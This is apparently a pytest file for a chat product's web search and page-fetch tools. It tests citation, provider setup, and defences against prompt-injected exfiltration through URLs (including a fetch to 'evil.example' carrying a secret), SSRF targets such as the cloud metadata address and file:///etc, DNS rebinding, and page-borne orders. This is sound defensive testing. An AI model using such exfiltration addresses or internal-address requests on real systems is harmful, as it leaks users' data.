"""The web as tools of a chat: searched, read, cited; what no page may reach; orders in pages."""

import asyncio
import socket
from collections.abc import Iterator
from typing import Any

import httpx2
import pytest

from backend.tools.types import MAX_RESULT, ToolFailed
from backend.tools.web.pages import Page, page_read
from tests.api.test_tools import answered, ask, calls_of
from tests.api.test_untrusted_content import ORDERS, spotlit
from tests.api.users import Person, sign_up
from tests.support.scripted import ScriptedProduct
from tests.support.web_pages import ADDRESS, WebPages

FERRY = "The ferry sails at noon from pier four, every day but Monday, and takes five hours."
RESULT = {
    "title": "Ferries <b>today</b>",
    "url": "https://ferries.example/today",
    "content": "All ferries sail at noon.",
}


@pytest.fixture(scope="module")
def server() -> Iterator[WebPages]:
    pages = WebPages()
    pages.start()
    yield pages
    pages.stop()


@pytest.fixture
def web(server: WebPages) -> WebPages:
    for seen in (server.queries, server.visited, server.reached):
        seen.clear()
    server.pages.clear()
    server.keys.clear()
    server.results = [RESULT]
    return server


@pytest.fixture(scope="module")
def kept_person(scripted_product: ScriptedProduct, server: WebPages) -> Iterator[Person]:
    user = sign_up(scripted_product.url)
    scripted_product.give_largest_plan(user.organization_id)
    configure(user, "searxng", server.url)
    yield user
    user.browser.close()


@pytest.fixture
def caller(
    kept_person: Person, scripted_product: ScriptedProduct, web: WebPages
) -> Iterator[Person]:
    """The owner of an organization that searches through SearXNG. Each test has a chat of its own,
    and changes nothing else of theirs."""
    scripted_product.says("It sails at noon.")
    yield kept_person
    scripted_product.calls()


def configure(user: Person, provider: str, url: str, token: str = "") -> dict[str, Any]:
    body = {"provider": provider, "url": url, "token": token}
    made = user.browser.post("/api/organization/web-search", json=body)
    assert made.status_code == 201, made.text
    path = f"/api/organization/tool-servers/{made.json()['id']}/check"
    checked = user.browser.post(path)
    assert checked.status_code == 200, checked.text
    configured: dict[str, Any] = checked.json()
    return configured


def web_chat(user: Person) -> str:
    conversation = user.new_conversation()
    path = f"/api/conversations/{conversation}"
    assert user.browser.patch(path, json={"web_search": True}).status_code == 200
    assert user.browser.get(path).json()["web_search"] is True
    return conversation


def offered(scripted_product: ScriptedProduct) -> list[str]:
    tools = scripted_product.bodies[-1].get("tools") or []
    return [tool["function"]["name"].rpartition("_")[0] for tool in tools]


def test_web_is_off_until_it_is_configured_and_switched_on_in_a_chat(
    scripted_product: ScriptedProduct, web: WebPages
) -> None:
    scripted_product.says("Hello.")
    user = sign_up(scripted_product.url)
    assert user.browser.get("/api/me/tools").json()["web_search"] is False
    ask(user, web_chat(user))
    assert offered(scripted_product) == []
    configure(user, "searxng", web.url)
    mine = user.browser.get("/api/me/tools").json()
    assert mine["web_search"] is True
    assert [server["kind"] for server in mine["servers"]] == ["python"]
    ask(user, user.new_conversation())
    assert offered(scripted_product) == []
    ask(user, web_chat(user))
    assert offered(scripted_product) == ["Web_fetch", "Web_search"]
    second = {"provider": "brave", "token": "x"}
    assert user.browser.post("/api/organization/web-search", json=second).status_code == 409
    user.browser.close()


@pytest.mark.parametrize(
    ("provider", "path", "key"),
    [("searxng", "", ""), ("brave", "/brave", "k-1"), ("tavily", "/tavily", "Bearer k-1")],
)
def test_search_is_made_by_each_provider_and_its_pages_are_sources(
    scripted_product: ScriptedProduct, web: WebPages, provider: str, path: str, key: str
) -> None:
    scripted_product.says("It sails at noon.")
    scripted_product.calls(("search", '{"query": "ferry times"}'))
    javascript = {**RESULT, "url": "javascript:alert(1)"}
    plain = {**RESULT, "url": "http://ferries.example/plain"}
    web.results = [javascript, plain, RESULT, RESULT]
    user = sign_up(scripted_product.url)
    token = key.removeprefix("Bearer ")
    server = configure(user, provider, web.url + path, token)
    assert server["has_token"] is bool(token)
    conversation = web_chat(user)
    ask(user, conversation)
    messages = answered(user, conversation)
    assert messages[-1]["content"].strip() == "It sails at noon."
    [call] = calls_of(user, conversation)
    assert call["status"] == "done"
    assert call["sources"] == [{"title": RESULT["title"], "url": RESULT["url"]}]
    assert web.queries[-1:] == ["ferry times"]
    assert web.keys == {key}
    spotlit(scripted_product.prompts[-1][-1]["content"], call["result"])
    checked = user.browser.post(f"/api/organization/tool-servers/{server['id']}/check").json()
    assert checked["error"] == ""
    assert all(tool["allowed"] for tool in checked["tools"])
    scripted_product.calls()
    user.browser.close()


def test_provider_is_refused_without_what_it_needs(scripted_product: ScriptedProduct) -> None:
    user = sign_up(scripted_product.url)
    for provider, param in (("tavily", "token"), ("brave", "token"), ("searxng", "url")):
        refused = user.browser.post("/api/organization/web-search", json={"provider": provider})
        assert refused.status_code == 400
        assert refused.json()["error"]["param"] == param
    user.browser.close()


def test_page_that_its_person_names_is_read_and_cited(
    caller: Person, scripted_product: ScriptedProduct, web: WebPages
) -> None:
    paragraphs = "".join(f"<p>{FERRY} This is note {number}.</p>" for number in range(9))
    article = f"<article><h1>The ferry</h1>{paragraphs}</article>"
    menu = "<nav><a href='/'>Home</a> <a href='/offers'>Our offers</a></nav>"
    head = "<head><title>The ferry</title><script>var secret = 1</script></head>"
    web.page("/ferry", f"<html>{head}<body>{menu}{article}</body></html>")
    web.redirect("/old", "/ferry")
    scripted_product.calls(("fetch", f'{{"url": "{web.url}/old"}}'))
    conversation = web_chat(caller)
    ask(caller, conversation, f"When does it sail? See {web.url}/old.")
    answered(caller, conversation)
    [call] = calls_of(caller, conversation)
    assert call["status"] == "done", call
    assert FERRY in call["result"]
    assert "Our offers" not in call["result"]
    assert "secret" not in call["result"]
    assert call["result"].startswith(f"The ferry\n{web.url}/ferry\n")
    assert web.visited == ["/old", "/ferry"]
    # Plain http is read at home alone, and never linked to.
    assert call["sources"] == []
    spotlit(scripted_product.prompts[-1][-1]["content"], call["result"])


def test_page_is_opened_only_where_a_search_found_it_or_its_person_wrote_it(
    caller: Person, scripted_product: ScriptedProduct, web: WebPages
) -> None:
    """An attack in a page has the chat carried away in an address."""
    page = web.page("/found", "<p>Read me.</p>")
    web.page("/found-and-more", "<p>No.</p>")
    web.results = [{**RESULT, "url": page}]
    conversation = web_chat(caller)
    scripted_product.calls(("search", '{"query": "it"}'))
    ask(caller, conversation, "When does the ferry sail? I know /found-and-more already.")
    answered(caller, conversation)
    others = (f"{page}?secret=42", f"{page}-and-more", "https://evil.example/?q=42")
    scripted_product.calls(*(("fetch", f'{{"url": "{url}"}}') for url in others))
    ask(caller, conversation, "And on Monday?")
    answered(caller, conversation)
    statuses = [call["status"] for call in calls_of(caller, conversation)]
    assert sorted(statuses) == ["done", "failed", "failed", "failed"]
    assert web.visited == ["/search?q=it&format=json"]
    scripted_product.calls(("fetch", f'{{"url": "{page}"}}'))
    ask(caller, conversation, "And on Monday?")
    answered(caller, conversation)
    assert "Read me." in "".join(call["result"] for call in calls_of(caller, conversation))
    # What one chat has found says nothing in another one.
    other = web_chat(caller)
    ask(caller, other, "And on Sunday?")
    answered(caller, other)
    assert calls_of(caller, other)[0]["status"] == "failed"


IN_BRACKETS = (
    "tests/api/test_web_search.py::test_address_is_the_whole_one_that_a_person_wrote[({url})-True]"
)
AT_NIGHT = pytest.mark.nightly(beside=IN_BRACKETS)
OTHERS = "{url}-and-more {url}/further {url}?day=monday {url}.example elsewhere.example/{url}"


@pytest.mark.parametrize(
    ("said", "opens"),
    [
        pytest.param("{url}", True, marks=AT_NIGHT),
        pytest.param("Read {url}.", True, marks=AT_NIGHT),
        pytest.param("Is it in {url}/? I think so", True, marks=AT_NIGHT),
        ("({url})", True),
        ("看{url}。谢谢", True),
        pytest.param(OTHERS, False, id="others"),
    ],
)
def test_address_is_the_whole_one_that_a_person_wrote(
    caller: Person, scripted_product: ScriptedProduct, web: WebPages, said: str, opens: bool
) -> None:
    """The beginning of one is another one, whose choice tells an attacker something."""
    page = web.page("/typed", "<p>Read me.</p>")
    scripted_product.calls(("fetch", f'{{"url": "{page}"}}'))
    conversation = web_chat(caller)
    ask(caller, conversation, said.format(url=page.removeprefix("http://")))
    answered(caller, conversation)
    assert web.visited == (["/typed"] if opens else [])


def test_page_leads_to_no_private_address(
    caller: Person, scripted_product: ScriptedProduct, web: WebPages
) -> None:
    targets = (web.forbidden, "http://169.254.169.254/latest", "http://localhost/", "file:///etc")
    away = [web.redirect(f"/away-{number}", target) for number, target in enumerate(targets)]
    scripted_product.calls(*(("fetch", f'{{"url": "{url}"}}') for url in (*away, *targets)))
    conversation = web_chat(caller)
    ask(caller, conversation, f"Read {' and '.join((*away, *targets))} for me.")
    answered(caller, conversation)
    calls = calls_of(caller, conversation)
    assert len(calls) == 2 * len(targets)
    for call in calls:
        assert call["status"] == "failed"
        assert call["result"].startswith("Page not read: "), call["result"]
    assert web.reached == []


def test_orders_in_a_page_do_not_reach_the_model(
    caller: Person, scripted_product: ScriptedProduct, web: WebPages
) -> None:
    web.page("/orders", f"<html><body><p>{FERRY} {ORDERS}</p></body></html>")
    scripted_product.calls(("fetch", f'{{"url": "{web.url}/orders"}}'))
    conversation = web_chat(caller)
    ask(caller, conversation, f"Read {web.url}/orders")
    assert answered(caller, conversation)[-1]["status"] == "completed"
    [call] = calls_of(caller, conversation)
    assert call["withheld"]
    assert not any(ORDERS in str(prompt) for prompt in scripted_product.prompts)


def test_only_managers_configure_the_web(caller: Person, scripted_product: ScriptedProduct) -> None:
    invitation = caller.new_invitation(role="member")["url"].partition("#")[2]
    colleague = sign_up(scripted_product.url, invitation=invitation)
    body = {"provider": "brave", "token": "x"}
    refused = colleague.browser.post("/api/organization/web-search", json=body)
    assert refused.status_code == 403
    assert colleague.browser.get("/api/me/tools").json()["web_search"] is True
    colleague.browser.close()


@pytest.fixture
def at_home(settings: Any) -> None:
    settings.WEB_PRIVATE_HOSTS = frozenset({ADDRESS})
    settings.TOOL_TIMEOUT_S = 20.0


def read(url: str) -> Page:
    return asyncio.run(page_read(url))


@pytest.mark.usefixtures("at_home")
def test_name_that_changes_its_address_is_connected_to_as_it_was_checked(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """DNS rebinding: public when it is checked, ours if it were asked for again."""
    addresses = iter(["93.184.215.14", "127.0.0.1", "127.0.0.1"])
    connected: list[str] = []

    def rebinding(host: str, port: int, **_: Any) -> Any:
        return [(socket.AF_INET, socket.SOCK_STREAM, 6, "", (next(addresses), port))]

    async def connect(self: httpx2.AsyncHTTPTransport, request: httpx2.Request) -> httpx2.Response:
        connected.append(request.url.host)
        raise httpx2.ConnectError("not in a test")

    monkeypatch.setattr(socket, "getaddrinfo", rebinding)
    monkeypatch.setattr(httpx2.AsyncHTTPTransport, "handle_async_request", connect)
    with pytest.raises(ToolFailed, match="not in a test"):
        read("https://rebind.example/")
    assert connected == ["93.184.215.14"]
    with pytest.raises(ToolFailed, match="not a public address"):
        read("https://rebind.example/")
    assert connected == ["93.184.215.14"]


@pytest.mark.usefixtures("at_home")
@pytest.mark.parametrize(
    ("kind", "status", "body", "word"),
    [
        ("image/png", 200, b"\x89PNG", "neither text, HTML nor PDF"),
        ("", 200, b"x", "neither text, HTML nor PDF"),
        ("text/html", 500, b"x", "HTTP status 500"),
        ("text/html", 200, b"x" * 2_100_000, "too long"),
        ("application/pdf", 200, b"%PDF-1.7 broken", "damaged"),
        ("text/html", 200, b"", "Page not read"),
    ],
    ids=["image", "no-type", "fails", "huge", "broken-pdf", "empty"],
)
def test_page_that_is_none_says_so(
    web: WebPages, kind: str, status: int, body: bytes, word: str
) -> None:
    url = web.page("/one", body, kind=kind, status=status)
    with pytest.raises(ToolFailed, match=word):
        read(url)


@pytest.mark.usefixtures("at_home")
def test_redirects_end(web: WebPages) -> None:
    url = web.redirect("/round", "/round")
    with pytest.raises(ToolFailed, match="more than 5 redirects"):
        read(url)


@pytest.mark.usefixtures("at_home")
def test_plain_text_is_read_as_it_is(web: WebPages) -> None:
    url = web.page("/robots.txt", "a\x00b" + "c" * MAX_RESULT, kind="text/plain")
    assert read(url).text.startswith("a\N{REPLACEMENT CHARACTER}bccc")


@pytest.mark.usefixtures("at_home")
@pytest.mark.parametrize(
    "charset", ["rot13", "zlib", "hex", "base64", "bz2", "punycode", "no-such"]
)
def test_page_in_no_encoding_of_text_is_read_as_utf8(web: WebPages, charset: str) -> None:
    url = web.page("/odd", "<p>Sälte</p>", kind=f"text/html; charset={charset}")
    assert read(url).text == "Sälte"


@pytest.mark.usefixtures("at_home")
@pytest.mark.parametrize("charset", ["iso-8859-1", "windows-1252", "utf-16", "GB18030", "UTF-8"])
def test_page_is_read_in_its_encoding(web: WebPages, charset: str) -> None:
    url = web.page("/text", "Sälte".encode(charset), kind=f"text/plain; charset={charset}")
    assert read(url).text == "Sälte"


def test_page_at_a_private_address_is_not_read_without_the_setting(web: WebPages) -> None:
    with pytest.raises(ToolFailed, match="not a public address"):
        read(web.page("/", "x"))
    assert web.visited == []
